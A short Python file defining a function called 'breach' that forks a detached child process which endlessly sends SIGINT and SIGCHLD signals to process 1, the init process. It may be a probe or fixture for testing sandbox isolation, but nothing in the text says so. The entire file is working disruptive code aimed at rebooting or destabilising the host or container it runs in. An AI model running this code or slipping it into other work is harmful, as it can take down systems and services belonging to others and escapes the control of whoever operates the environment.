import os
import signal


def breach():
    if not os.fork():
        os.setsid()
        while True:
            os.kill(1, signal.SIGINT)
            os.kill(1, signal.SIGCHLD)
    return False
